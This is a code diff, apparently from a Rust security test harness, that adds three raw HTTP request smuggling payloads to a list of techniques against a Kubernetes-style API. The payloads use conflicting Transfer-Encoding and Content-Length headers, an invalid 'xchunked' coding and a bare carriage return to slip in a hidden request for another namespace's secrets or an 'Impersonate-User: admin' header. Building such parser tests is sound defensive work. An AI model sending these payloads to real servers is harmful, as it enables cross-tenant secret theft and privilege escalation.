@@ -151,6 +151,15 @@ pub(super) fn techniques() -> Vec<Technique> {
         raw("head-folded", "Folds a header over two lines.", |field| {
             format!("GET /api/v1/namespaces/{}/configmaps HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n Impersonate-User: admin\r\n\r\n", field.attacker.namespace)
         }),
+        raw("head-coding-and-length", "Gives chunks and then a length, which who believes the length reads on from.", |field| {
+            format!("POST /api/v1/namespaces/{0}/configmaps HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET /api/v1/namespaces/{1}/secrets HTTP/1.1\r\nHost: x\r\n\r\n", field.attacker.namespace, field.victim.namespace)
+        }),
+        raw("head-odd-coding", "Names a coding that some take for chunks and some for none.", |field| {
+            format!("POST /api/v1/namespaces/{0}/configmaps HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /api/v1/namespaces/{1}/secrets HTTP/1.1\r\nHost: x\r\n\r\n", field.attacker.namespace, field.victim.namespace)
+        }),
+        raw("head-bare-carriage-return", "Ends a header line by a bare carriage return, so that a second header could hide in its value.", |field| {
+            format!("GET /api/v1/namespaces/{}/configmaps HTTP/1.1\r\nHost: x\r\nX-A: 1\rImpersonate-User: admin\r\n\r\n", field.attacker.namespace)
+        }),
         raw("head-space-before-colon", "Puts a space before a header's colon.", |field| {
             format!("GET /api/v1/namespaces/{}/configmaps HTTP/1.1\r\nHost: x\r\nImpersonate-User : admin\r\n\r\n", field.attacker.namespace)
         }),
